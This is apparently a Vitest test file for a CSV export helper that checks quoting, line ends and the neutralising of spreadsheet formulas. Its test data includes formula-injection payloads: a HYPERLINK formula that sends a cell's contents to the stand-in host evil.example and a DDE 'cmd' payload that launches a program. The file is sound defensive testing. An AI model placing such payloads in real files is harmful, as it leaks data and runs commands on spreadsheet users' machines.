import { describe, expect, it } from 'vitest';
import { csvHeaders, csvOf } from '../../../api/http/csv.ts';

const bom = '\uFEFF';

/** The one cell of a table, as a spreadsheet reads it. */
function cell(value: string | number | boolean | null): string {
  const line = csvOf(['head'], [[value]]).split('\r\n')[1] ?? '';
  return line.replace(/^"([\s\S]*)"$/, '$1').replaceAll('""', '"');
}

describe('a table as CSV', () => {
  it('has a line for each row, ends each with CR LF, and begins so that Excel reads Japanese', () => {
    expect(
      csvOf(
        ['受付番号', 'name'],
        [
          ['M-7K4P', '花子'],
          ['M-7K4Q', null],
        ],
      ),
    ).toBe(`${bom}"受付番号","name"\r\n"M-7K4P","花子"\r\n"M-7K4Q",\r\n`);
  });

  it('keeps commas, quotes and line ends within their cell', () => {
    expect(csvOf(['a'], [['one, "two"\nthree']])).toBe(`${bom}"a"\r\n"one, ""two""\nthree"\r\n`);
  });

  it.each([
    ['=1+1'],
    ['=HYPERLINK("https://evil.example?"&A1,"here")'],
    ['+81 3 1234 5678'],
    ["-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['  =1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(1)'],
    ['\0=1+1'],
  ])('shows text that would be a formula, and does not run it: %j', (text) => {
    expect(cell(text)).toBe(`'${text.replaceAll('\0', '')}`);
  });

  it('guards the names of columns as well', () => {
    expect(csvOf(['=1+1'], [])).toBe(`${bom}"'=1+1"\r\n`);
  });

  it.each([['返品したい'], ['a=b'], ['1-2'], ['hanako@example.jp'], ["'quoted'"], ['']])(
    'leaves other text alone: %j',
    (text) => {
      expect(cell(text)).toBe(text);
    },
  );

  it('leaves numbers numbers', () => {
    expect(csvOf(['a', 'b', 'c'], [[-5, 1.5, true]])).toBe(`${bom}"a","b","c"\r\n-5,1.5,true\r\n`);
  });

  it('is a download with a plain name that nobody keeps', () => {
    expect(csvHeaders('tickets 2026/"11"\r\nX: y')).toEqual({
      'Content-Type': 'text/csv; charset=utf-8',
      'Content-Disposition': 'attachment; filename="tickets-2026--11---X--y.csv"',
      'Cache-Control': 'no-store',
    });
  });
});
